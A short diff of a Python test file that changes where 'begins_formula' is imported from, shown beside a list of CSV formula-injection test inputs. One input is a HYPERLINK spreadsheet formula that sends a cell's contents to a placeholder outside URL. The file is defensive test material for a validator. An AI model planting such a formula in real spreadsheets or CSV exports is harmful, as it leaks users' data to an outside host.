@@ -9,8 +9,8 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 import deniable
-from deniable._validate import begins_formula
 from deniable.certificate.results import csv_bytes
+from deniable.errors.validate import begins_formula
 
 FORMULAS = [
     '=HYPERLINK("http://example.org?"&A1,"more")', "+1", "@x", "-1+1", "-2", "\t=1", "\r=1",
